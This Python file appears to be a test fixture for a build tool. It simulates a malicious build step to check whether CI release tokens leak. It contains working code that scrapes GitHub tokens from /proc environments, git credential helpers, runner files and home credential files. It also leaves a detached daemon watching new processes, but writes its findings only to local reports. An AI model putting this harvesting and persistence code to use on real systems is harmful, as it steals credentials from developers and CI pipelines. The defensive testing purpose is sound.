"""A hostile build step (test data, run as project code by `valet build`).

It does what malicious code in a dependency's build script would do to steal the
release machinery's credentials, without being told what to look for:

1. right away, it searches every process's environment and command line
   (/proc/*/environ, /proc/*/cmdline), the git configuration and credential helpers,
   and the runner's files (the GITHUB_ENV directory, RUNNER_TEMP, the workspace) for
   anything that looks like a GitHub token or an Authorization header;
2. it leaves a daemon behind (double fork, new session, so the step ends without it)
   that reads the environment and command line of every new process, until its job is
   over: until a process of another job of this run appears (a descendant of the act
   process that runs this job), or act itself is gone. Other programs on the host are
   read too, as a runner's other processes would be.

Each part writes a JSON report to $HOSTILE_REPORT_DIR (probe-<job>.json,
watcher-<job>.json). The candidates it found are in "found"; the test compares them
with the real tokens, which the probe never sees.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

REPORT = Path(os.environ["HOSTILE_REPORT_DIR"])
JOB = os.environ.get("GITHUB_JOB", "?")
TOKEN_RE = re.compile(rb"gh[pousr]_[A-Za-z0-9]{20,255}")
AUTH_RE = re.compile(rb"(?i)authorization:\s*(?:basic|bearer|token)\s+([A-Za-z0-9+/=._-]{8,})")
B64_RE = re.compile(rb"[A-Za-z0-9+/]{28,}={0,2}")
MAX_FILE = 2 * 1024 * 1024


def _b64(chunk: bytes) -> bytes:
    try:
        return base64.b64decode(chunk + b"=" * (-len(chunk) % 4))
    except ValueError:
        return b""


def candidates(data: bytes) -> set[str]:
    found = {m.group(0).decode() for m in TOKEN_RE.finditer(data)}
    for m in AUTH_RE.finditer(data):
        decoded = _b64(m.group(1))
        found |= {t.decode() for t in TOKEN_RE.findall(decoded)}
        if b":" in decoded:
            found.add(decoded.split(b":", 1)[1].decode(errors="replace"))
    for m in B64_RE.finditer(data):
        decoded = _b64(m.group(0))
        if b"x-access-token:" in decoded:
            found.add(decoded.split(b"x-access-token:", 1)[1].split(b"\n")[0]
                      .decode(errors="replace"))
    return found


def read(path: Path | str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


def proc_text(pid: str) -> tuple[bytes, bytes]:
    return (read(f"/proc/{pid}/environ").replace(b"\0", b"\n"),
            read(f"/proc/{pid}/cmdline").replace(b"\0", b" "))


def job_of(environ: bytes) -> str | None:
    m = re.search(rb"(?m)^GITHUB_JOB=(.*)$", environ)
    return m.group(1).decode() if m else None


def pids() -> list[str]:
    return [p for p in os.listdir("/proc") if p.isdigit()]


def record(found: list[dict[str, str]], where: str, data: bytes) -> None:
    for value in sorted(candidates(data)):
        found.append({"where": where, "value": value})


def scan_tree(root: str | None, found: list[dict[str, str]], files: list[str]) -> None:
    if not root or not os.path.isdir(root):
        return
    for base, _dirs, names in os.walk(root, followlinks=False):
        for name in names:
            path = os.path.join(base, name)
            if os.path.islink(path) or not os.path.isfile(path):
                continue
            if os.path.getsize(path) > MAX_FILE:
                continue
            files.append(path)
            record(found, path, read(path))


def probe() -> dict[str, object]:
    found: list[dict[str, str]] = []
    procs = 0
    for pid in pids():
        environ, cmdline = proc_text(pid)
        if environ or cmdline:
            procs += 1
        record(found, f"/proc/{pid}/environ", environ)
        record(found, f"/proc/{pid}/cmdline", cmdline)
    git_env = {**os.environ, "GIT_TERMINAL_PROMPT": "0", "GIT_ASKPASS": "/bin/false"}
    config = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True,
                            env=git_env, check=False).stdout
    record(found, "git config", config)
    server = os.environ.get("GITHUB_SERVER_URL", "")
    host = server.split("://", 1)[-1].rstrip("/")
    cred = subprocess.run(["git", "credential", "fill"], capture_output=True, env=git_env,
                          input=f"protocol={server.split('://', 1)[0]}\nhost={host}\n\n".encode(),
                          check=False).stdout
    record(found, "git credential fill", cred)
    files: list[str] = []
    runner = [os.environ.get(k) for k in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT",
                                          "GITHUB_STATE", "GITHUB_STEP_SUMMARY",
                                          "GITHUB_EVENT_PATH")]
    for path in filter(None, runner):
        files.append(path)
        record(found, path, read(path))
    if os.environ.get("GITHUB_ENV"):
        scan_tree(os.path.dirname(os.environ["GITHUB_ENV"]), found, files)
    scan_tree(os.environ.get("RUNNER_TEMP"), found, files)
    scan_tree(os.environ.get("GITHUB_WORKSPACE"), found, files)
    home = os.path.expanduser("~")
    for rel in (".git-credentials", ".config/git/credentials", ".gitconfig"):
        files.append(os.path.join(home, rel))
        record(found, os.path.join(home, rel), read(os.path.join(home, rel)))
    return {"job": JOB, "found": found, "processes": procs, "files": len(files),
            "runner_files": [p for p in runner if p], "git_config_lines": len(config.splitlines())}


def parent(pid: str) -> str:
    m = re.search(rb"PPid:\s*(\d+)", read(f"/proc/{pid}/status"))
    return m.group(1).decode() if m else "0"


def act_pid() -> str | None:
    """The act process running this job (the runner, in host mode)."""
    pid = str(os.getppid())
    while pid not in ("0", "1"):
        cmdline = read(f"/proc/{pid}/cmdline").split(b"\0")
        if cmdline and cmdline[0].endswith(b"/act"):
            return pid
        pid = parent(pid)
    return None


def under(pid: str, ancestor: str | None) -> bool:
    """Is ``pid`` a descendant of ``ancestor``: a process of this run, not of another
    program on this host."""
    for _ in range(64):
        if ancestor is None or pid in ("0", "1"):
            return False
        if pid == ancestor:
            return True
        pid = parent(pid)
    return False


def watch(act: str | None) -> None:
    found: list[dict[str, str]] = []
    seen = set(pids())
    observed: list[dict[str, str]] = []
    stopped = "time limit"
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        if act is not None and not os.path.exists(f"/proc/{act}"):
            stopped = "act ended"
            break
        other = None
        for pid in pids():
            if pid in seen:
                continue
            seen.add(pid)
            environ, cmdline = proc_text(pid)
            job = job_of(environ)
            ours = under(pid, act)
            if job is not None and job != JOB and ours:
                other = job  # this run's next job: on GitHub it runs on another machine
                break
            observed.append({"pid": pid, "job": job or "", "ours": ours,
                             "cmd": cmdline[:120].decode(errors="replace")})
            record(found, f"/proc/{pid}/environ", environ)
            record(found, f"/proc/{pid}/cmdline", cmdline)
        if other is not None:
            stopped = f"job {other} started"
            break
        time.sleep(0.02)
    out = REPORT / f"watcher-{JOB}.json"
    tmp = out.with_suffix(".tmp")
    tmp.write_text(json.dumps({"job": JOB, "found": found, "observed": observed,
                               "stopped": stopped}))
    tmp.rename(out)


def daemonize() -> int:
    """Fork a watcher that outlives this step; returns its pid (in the parent)."""
    act = act_pid()  # found from here: the daemon's parent will be init
    read_end, write_end = os.pipe()
    if os.fork():  # the build step goes on
        os.close(write_end)
        pid = int(os.read(read_end, 32) or b"0")
        os.close(read_end)
        return pid
    os.close(read_end)
    os.setsid()
    if os.fork():
        os._exit(0)
    os.write(write_end, str(os.getpid()).encode())
    os.close(write_end)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    try:
        watch(act)
    finally:
        os._exit(0)


def main() -> int:
    REPORT.mkdir(parents=True, exist_ok=True)
    report = probe()
    report["watcher_pid"] = daemonize()
    digests = {}
    import hashlib

    for path in sorted(Path("dist").glob("*")):
        digests[path.name] = hashlib.sha256(path.read_bytes()).hexdigest()
    report["built"] = digests
    (REPORT / f"probe-{JOB}.json").write_text(json.dumps(report))
    print(f"hostile probe: {len(report['found'])} candidate(s) in {report['processes']} "
          f"processes and {report['files']} files; watcher {report['watcher_pid']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
